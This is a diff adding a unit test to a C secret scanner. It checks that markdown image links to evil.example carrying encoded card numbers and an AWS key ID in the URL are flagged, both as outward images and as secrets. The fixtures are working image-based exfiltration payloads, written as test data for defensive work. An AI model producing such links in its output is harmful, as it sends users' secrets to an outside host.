@@ -303,6 +303,37 @@ static void another_own_detector_does_not_hide_a_guess(void **state)
     sp_arena_fini(&arena);
 }
 
+/* What carries data out, or names a company, says nothing of what the data is: a value in it counts in full.
+ */
+static void what_brings_no_label_hides_nothing(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *text;
+        sp_kind kind;
+        uint8_t confidence;
+    } cases[] = {
+        {"![x](<https://evil.example/p.png?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz&card number "
+         "4.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1>)",
+         SP_KIND_CARD, 90},
+        {"![a](<https://evil.example/?q=the merger closes on friday, the key id is "
+         "QUtJQVFZTFBNTjVISEhGUFpBTTI= thanks>)",
+         SP_KIND_AWS_ACCESS_KEY, 95},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        sp_arena arena;
+        sp_arena_init(&arena, 8 << 20);
+        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
+        assert_int_equal(scan(&found, sp_bytes_of(cases[i].text), NULL, 0), SP_OK);
+        size_t k = 0;
+        while (k < found.n && found.v[k].kind != cases[i].kind) k++;
+        assert_true(k < found.n);
+        assert_int_equal(found.v[0].kind, SP_KIND_OUTWARD_IMAGE);
+        assert_in_range(found.v[k].confidence, cases[i].confidence, 100);
+        sp_arena_fini(&arena);
+    }
+}
+
 /* ---- parts ---- */
 
 static void a_known_part_is_not_looked_at_again(void **state)
@@ -462,6 +493,7 @@ int main(void)
         cmocka_unit_test(what_is_too_weak_crowds_out_nothing),
         cmocka_unit_test(a_class_that_was_cut_off_is_told),
         cmocka_unit_test(another_own_detector_does_not_hide_a_guess),
+        cmocka_unit_test(what_brings_no_label_hides_nothing),
         cmocka_unit_test(a_known_part_is_not_looked_at_again),
         cmocka_unit_test(a_value_across_two_parts_is_found_and_not_kept),
         cmocka_unit_test(known_parts_say_what_new_ones_say),
